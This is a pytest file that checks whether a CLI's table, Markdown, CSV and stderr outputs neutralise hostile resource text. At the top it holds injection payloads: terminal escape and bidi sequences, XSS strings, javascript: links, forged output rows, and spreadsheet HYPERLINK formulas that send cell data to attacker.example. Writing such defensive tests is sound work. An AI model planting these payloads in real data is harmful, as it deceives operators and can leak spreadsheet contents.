"""Hostile resource text through the real CLI comes out inert (issue 19, "text output is inert").

Names, descriptions, tags, key descriptions, policy Sids and AWS's error messages are written
by whoever can create a resource in one member account. Here a hand-built snapshot holds
them full of payloads -- terminal escape sequences (CSI, OSC title and OSC 8 hyperlinks,
8-bit C1 CSI, CR/backspace/DEL overwrites, bidi overrides and zero-width characters), line
breaks shaped like the output's own rows, HTML and Markdown markup, spreadsheet formulas --
and every format a person reads is checked as the real CLI (a subprocess) writes it: no
control character reaches the terminal and each shows as a visible escape; Markdown, as
GitHub's own renderer (cmark-gfm) shows it, holds no element, link or image from the data;
CSV holds no formula.
"""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import subprocess
import unicodedata
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options as CmarkOptions

from e2e_helpers import cli_command, cli_env
from snapshot_builder import ACCOUNT, REGION, SEED, SnapshotBuilder

# --- the payloads ---------------------------------------------------------------------------------

CSI_CLEAR = "\x1b[2J"  # CSI: clears the screen
OSC_TITLE = "\x1b]0;pwned\x07"  # OSC 0 ... BEL: retitles the terminal window
OSC8_LINK = "\x1b]8;;https://attacker.example/\x1b\\click\x1b]8;;\x1b\\"  # OSC 8: a hyperlink
C1_CSI = "\x9b31m"  # the 8-bit CSI (C1 0x9b, U+009B in UTF-8): red on terminals that take C1
OVERWRITE = "\rALL CLEAR  \x08\x08\x7f"  # CR, backspaces, DEL: write over what was shown
BIDI = "\u202edetrevni\u202c \u2066isolated\u2069 zero\u200bwidth"  # reorder / hide what is seen
TERMINAL = "x" + CSI_CLEAR + OSC_TITLE + OSC8_LINK + C1_CSI + OVERWRITE + BIDI

HTML = '<img src=x onerror=alert(1)><script>alert(2)</script>'
MARKDOWN = "[click](javascript:alert(3)) ![pixel](https://attacker.example/p.png) `code` *hide* https://attacker.example"
# A line break that makes what follows look like a line of the output itself: a finding of
# `check -o brief`, a field of `-o line`, a row of a table.
FORGED_FINDING = "\nALARM  forged_control  arn:aws:bedrock:us-east-1:123456789012:custom-model/forged  Forged."
FORGED_FIELD = "\nmodel_name = forged"
FORGED_ROW = "\n| forged | ok | all clear |"

FORMULAS = ('=HYPERLINK("https://attacker.example/?d="&A1,"click")',
            ' =HYPERLINK("https://attacker.example/","click")',  # LibreOffice's "Trim spaces" evaluates it
            '\x00=HYPERLINK("https://attacker.example/","click")')  # LibreOffice drops the NUL and evaluates it

HOSTILE_MODEL = "model" + TERMINAL + HTML + MARKDOWN + FORGED_FINDING + FORGED_FIELD + FORGED_ROW
HOSTILE_ARN = f"arn:aws:bedrock:{REGION}:{ACCOUNT}:custom-model/hostile"
HOSTILE_RUN = "run" + OSC_TITLE + HTML


# --- what no output for people may hold ------------------------------------------------------------


def unsafe_characters(text: str) -> list[str]:
    """Characters that act on a terminal or hide/reorder text: controls but the line feed
    (C0, DEL, C1), format characters (bidi, zero-width), line and paragraph separators."""
    return [f"U+{ord(c):04X}" for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")]


def assert_inert_on_a_terminal(raw: bytes) -> str:
    """``raw`` (a stream as written) holds no control byte or sequence; returns it decoded."""
    for byte in (b"\x1b", b"\x07", b"\x08", b"\r", b"\x7f", b"\x9b"):
        assert byte not in raw, f"raw {byte!r} in the output:\n{raw[:3000]!r}"
    text = raw.decode("utf-8")
    assert unsafe_characters(text) == [], text[:3000]
    return text


@dataclass
class Run:
    code: int
    out: bytes
    err: bytes

    @property
    def text(self) -> str:
        return self.out.decode("utf-8")


def cli(tmp: Path, *args: str | Path) -> Run:
    """`bedrock-sql ARGS` as a subprocess; stdout and stderr as the bytes it wrote."""
    done = subprocess.run(cli_command(*map(str, args)), cwd=tmp, env=cli_env(), capture_output=True, timeout=120)
    return Run(done.returncode, done.stdout, done.stderr)


# --- the hostile snapshots ------------------------------------------------------------------------------


def hostile_snapshot(path: Path) -> Path:
    """A snapshot whose free text is all payloads: a key (title, description, tags, a public
    policy statement whose Sid is markup) used by a model named with every payload, models
    named like formulas, and a failed listing whose AWS message forges a finding."""
    snap = SnapshotBuilder(path)
    snap.add_run(run_id=HOSTILE_RUN)
    policy = {"Version": "2012-10-17", "Statement": [
        {"Sid": HTML + MARKDOWN, "Effect": "Allow", "Principal": "*", "Action": "kms:Decrypt", "Resource": "*"}]}
    key = snap.add_key("alias/hostile", title="key" + TERMINAL + HTML, description="described" + TERMINAL + FORGED_ROW,
                       tags={"team": TERMINAL + HTML + MARKDOWN, "note": "multi" + FORGED_FIELD}, policy=policy)
    snap.add_model(HOSTILE_MODEL, arn=HOSTILE_ARN, model_kms_key_arn=key["arn"],
                   tags={"html": HTML, "markdown": MARKDOWN, "formula": FORMULAS[0]})
    for number, formula in enumerate(FORMULAS):  # the seed rule's reason starts with the model's name
        snap.add_model(formula, arn=f"arn:aws:bedrock:{REGION}:{ACCOUNT}:custom-model/formula-{number}")
    snap.add_error(table_name="aws_bedrock_custom_model", operation="ListCustomModels", region="eu-west-1",
                   message="denied" + TERMINAL + HTML + FORGED_FINDING)
    # A table of its own whose name is a payload: `tables` lists whatever the file holds.
    with sqlite3.connect(path) as db:
        db.execute(f'CREATE TABLE "table{CSI_CLEAR}{OSC_TITLE}" (x)')
    db.close()
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hostile_snapshot(tmp_path_factory.mktemp("inert") / "hostile.db")


@pytest.fixture(scope="module")
def old_snapshot(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An earlier audit: the hostile model was fine then (so diff reports it)."""
    snap = SnapshotBuilder(tmp_path_factory.mktemp("inert-old") / "old.db")
    snap.add_run(finished_at="2026-11-01T12:00:00Z")
    key = snap.add_key("alias/fine")
    snap.add_model("fine", arn=HOSTILE_ARN, model_kms_key_arn=key["arn"])
    return snap.path


QUERY = ("SELECT k.title, k.description, k.tags, m.model_name, m.tags AS model_tags "
         "FROM aws_kms_key k JOIN aws_bedrock_custom_model m ON m.model_kms_key_arn = k.arn")


# --- terminal formats ------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["table", "line"])
def test_query_shows_escapes_not_control_sequences(hostile: Path, fmt: str) -> None:
    run = cli(hostile.parent, "--db", hostile, "query", "-o", fmt, QUERY)
    assert run.code == 0, run.err
    text = assert_inert_on_a_terminal(run.out)
    # Each payload is shown, as its escape: a reviewer sees that it is there.
    for shown in (r"\x1b[2J", r"\x1b]0;pwned\x07", r"\x1b]8;;https://attacker.example/\x1b\\click",
                  r"\x9b31m", r"\rALL CLEAR  \x08\x08\x7f", r"\u202edetrevni\u202c", r"\u2066isolated\u2069",
                  r"zero\u200bwidth"):
        assert shown in text, shown


def test_a_line_break_in_a_value_cannot_forge_a_field_of_line_format(hostile: Path) -> None:
    run = cli(hostile.parent, "--db", hostile, "query", "-o", "line", QUERY)
    text = assert_inert_on_a_terminal(run.out)
    names = ["title", "description", "tags", "model_name", "model_tags"]
    width = max(map(len, names))
    fields = [line for line in text.splitlines() if re.match(rf"^ *\w+ = ", line) and len(line.split(" = ")[0]) == width]
    # Exactly one line per column starts a field; every other line of a value is indented past
    # the names, so "   model_name = forged" from the data is not one of them.
    assert [line.split(" = ")[0].strip() for line in fields] == names, text
    for line in text.splitlines():
        assert line in fields or line.startswith(" " * (width + 3)) or line == "", line


def test_a_line_break_in_a_value_cannot_forge_a_row_of_a_table(hostile: Path) -> None:
    run = cli(hostile.parent, "--db", hostile, "query", "-o", "table",
              "SELECT model_name, 'alarm' AS status FROM aws_bedrock_custom_model ORDER BY arn")
    text = assert_inert_on_a_terminal(run.out)
    lines = text.splitlines()
    # Four models: a rule (a line starting "+") closes each row, so the forged "| forged | ok |"
    # line sits inside the hostile model's row, not as a row of its own.
    rules = [n for n, line in enumerate(lines) if line.startswith("+-")]
    assert len(rules) == 1 + 4, text  # the top rule, then one after each row
    forged = next(n for n, line in enumerate(lines) if "| forged | ok |" in line)
    row_of = [n for n in rules if n < forged][-1]
    assert all("alarm" not in line for line in lines[row_of + 2:forged + 1]) and "alarm" in lines[row_of + 1]


@pytest.mark.parametrize("fmt", ["table", "brief"])
def test_check_for_people_is_inert_and_one_finding_a_line(hostile: Path, fmt: str) -> None:
    run = cli(hostile.parent, "--db", hostile, "check", "-o", fmt)
    assert run.code == 2, run.err  # the failed listing is an error
    text = assert_inert_on_a_terminal(run.out)
    assert_inert_on_a_terminal(run.err)
    assert r"\x1b[2J" in text and r"\x1b]0;pwned\x07" in text  # the key's title, the model's name
    assert "forged_control" in text  # the forged finding is there, as text
    if fmt == "brief":
        findings = [line for line in text.splitlines() if not line.startswith("Summary: ")]
        # Every line is a finding of a real control: the AWS message's line break did not start one.
        assert findings and all(re.match(r"^(ALARM|ERROR)\s+bedrock_\w+  ", line) for line in findings), text
        assert not any(line.startswith("ALARM  forged_control") for line in findings)
    assert r"run\x1b]0;pwned\x07" in text  # the summary names the run, read from the snapshot


def test_tables_lists_a_hostile_table_name_as_escapes(hostile: Path) -> None:
    run = cli(hostile.parent, "--db", hostile, "tables")
    assert run.code == 0, run.err
    assert r"table\x1b[2J\x1b]0;pwned\x07" in assert_inert_on_a_terminal(run.out)


def test_diff_is_inert(old_snapshot: Path, hostile: Path) -> None:
    run = cli(hostile.parent, "diff", old_snapshot, hostile)
    assert run.code == 0, run.err
    text = assert_inert_on_a_terminal(run.out)
    assert_inert_on_a_terminal(run.err)
    assert r"\x1b[2J" in text and "regressed" in text  # the key's title in the reason, as escapes


# --- Markdown ------------------------------------------------------------------------------------------------------


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.hrefs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.hrefs += [value or "" for name, value in attrs if name in ("href", "src")]


# The elements a table of bedrock-sql's makes; anything else came from the data.
TABLE_ELEMENTS = {"p", "table", "thead", "tbody", "tr", "th", "td", "br"}


def assert_inert_markdown(text: str) -> None:
    """As GitHub renders it (cmark-gfm with its table, autolink and tagfilter extensions,
    raw HTML let through as other renderers do): no element, link or image from the data."""
    assert "<script" not in text.lower() and "<img" not in text.lower()
    rendered = cmarkgfm.github_flavored_markdown_to_html(text, options=CmarkOptions.CMARK_OPT_UNSAFE)
    elements = _Elements()
    elements.feed(rendered)
    assert set(elements.tags) <= TABLE_ELEMENTS, (set(elements.tags) - TABLE_ELEMENTS, rendered[:3000])
    assert elements.hrefs == [], elements.hrefs
    assert unsafe_characters(text.replace("\n", "")) == []


def test_query_markdown_is_inert(hostile: Path) -> None:
    run = cli(hostile.parent, "--db", hostile, "query", "-o", "markdown", QUERY)
    assert run.code == 0, run.err
    assert_inert_markdown(run.text)
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in run.text  # shown, as text


def test_check_markdown_and_its_export_are_inert(hostile: Path) -> None:
    export = hostile.parent / "findings.md"
    run = cli(hostile.parent, "--db", hostile, "check", "-o", "markdown", "--export", export)
    assert run.code == 2, run.err
    assert_inert_markdown(run.text)  # the policy's Sid, the model's name and tags, the run id
    assert_inert_markdown(export.read_text(encoding="utf-8"))
    assert run.text.startswith("Findings of the snapshot collected")


def test_diff_markdown_is_inert(old_snapshot: Path, hostile: Path) -> None:
    run = cli(hostile.parent, "diff", "-o", "markdown", old_snapshot, hostile)
    assert run.code == 0, run.err
    assert_inert_markdown(run.text)


# --- CSV -----------------------------------------------------------------------------------------------------------------


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet could take for a formula: one starting with = + - @, tab, CR or NUL,
    also after the spaces, line breaks and NULs an importer may drop first."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    return [c for c in cells if c[:1] in ("\t", "\r", "\0") or c.lstrip(" \t\r\n\0")[:1] in ("=", "+", "-", "@")]


def test_no_formula_reaches_any_csv(old_snapshot: Path, hostile: Path) -> None:
    export = hostile.parent / "findings.csv"
    outputs = {
        "query": cli(hostile.parent, "--db", hostile, "query", "-o", "csv",
                     "SELECT model_name, tags FROM aws_bedrock_custom_model").text,
        "check": cli(hostile.parent, "--db", hostile, "check", "-o", "csv", "--export", export).text,
        "diff": cli(hostile.parent, "diff", "-o", "csv", old_snapshot, hostile).text,
    }
    outputs["export"] = export.read_text(encoding="utf-8")
    for name in ("query", "check", "export"):
        for formula in FORMULAS:
            assert "'" + formula in outputs[name].replace('""', '"'), (name, formula)  # kept, as text
    for name, text in outputs.items():
        assert formula_cells(text) == [], name


# --- what the CLI says on stderr ---------------------------------------------------------------------------------


def test_diff_notes_name_the_runs_as_escapes(old_snapshot: Path, tmp_path: Path) -> None:
    # A snapshot's collect time is text from the file: a swapped pair gets a note quoting it.
    later = SnapshotBuilder(tmp_path / "later.db")
    later.add_run(finished_at="2026-12-01T00:00:00Z" + OSC_TITLE + CSI_CLEAR)
    run = cli(tmp_path, "diff", later.path, old_snapshot)
    assert run.code == 0, run.err
    err = assert_inert_on_a_terminal(run.err)
    assert "are they swapped?" in err and r"\x1b]0;pwned\x07\x1b[2J" in err
    assert_inert_on_a_terminal(run.out)  # the summary line names both runs too


def test_machine_formats_put_an_inert_summary_on_stderr(hostile: Path) -> None:
    run = cli(hostile.parent, "--db", hostile, "check", "-o", "json")
    assert r"run run\x1b]0;pwned\x07" in assert_inert_on_a_terminal(run.err)


def test_collect_summary_and_aws_failures_are_inert(capsys: pytest.CaptureFixture) -> None:
    # collect (and check/query --live) print AWS's error messages, which quote resource names
    # and S3 URIs, and the scope's notes: each on one line, escapes visible.
    from types import SimpleNamespace

    from bedrock_sql.engine import ErrorRecord
    from bedrock_sql.progress import print_collect_summary
    from bedrock_sql.snapshot import CollectResult

    record = ErrorRecord(ACCOUNT, REGION, "aws_bedrock_custom_model", "GetCustomModel", "ValidationException",
                         "Model " + TERMINAL + FORGED_FINDING + " was not found", "2026-11-28T12:00:00Z",
                         resource=HOSTILE_ARN + CSI_CLEAR)
    scope = SimpleNamespace(accounts=[ACCOUNT], regions=[REGION], notes=["a note" + OSC_TITLE + "\nforged line"],
                            failed_accounts=[])
    print_collect_summary(CollectResult(Path("s.db"), {"aws_bedrock_custom_model": 1}, [record], scope, 3), 1.0, "s.db")
    err = assert_inert_on_a_terminal(capsys.readouterr().err.encode())
    failure = [line for line in err.splitlines() if "GetCustomModel" in line]
    assert len(failure) == 1 and r"Model x\x1b[2J" in failure[0] and r"\nALARM  forged_control" in failure[0]
    assert r"Note: a note\x1b]0;pwned\x07\nforged line" in err.splitlines()


def test_an_error_line_is_inert(hostile: Path) -> None:
    # Errors quote what they were given (SQL, paths) and what AWS or SQLite answered.
    run = cli(hostile.parent, "--db", hostile, "query", f'SELECT * FROM "no{CSI_CLEAR}{OSC_TITLE}"')
    assert run.code == 2
    err = assert_inert_on_a_terminal(run.err)
    assert err.startswith("bedrock-sql: error: ") and r"no\x1b[2J\x1b]0;pwned\x07" in err and err.count("\n") == 1


def test_colours_are_ours_and_the_datas_escapes_are_shown(hostile: Path) -> None:
    # On a terminal the statuses are coloured (click.style): those sequences are kept, the ones
    # in the data are escaped.
    import click

    from bedrock_sql.controls import Finding, load_controls
    from bedrock_sql.report import write_report

    control = next(c for c in load_controls() if c.id == SEED)
    finding = Finding(control, HOSTILE_ARN, "alarm", "Reason " + CSI_CLEAR, ACCOUNT, REGION)
    for fmt in ("table", "brief"):
        out = io.StringIO()
        write_report([finding], [control], fmt, out, colour=True)
        text = out.getvalue()
        assert click.style("ALARM", fg="red", bold=True) in text, fmt
        assert r"Reason \x1b[2J" in text and "\x1b[2J" not in text, fmt
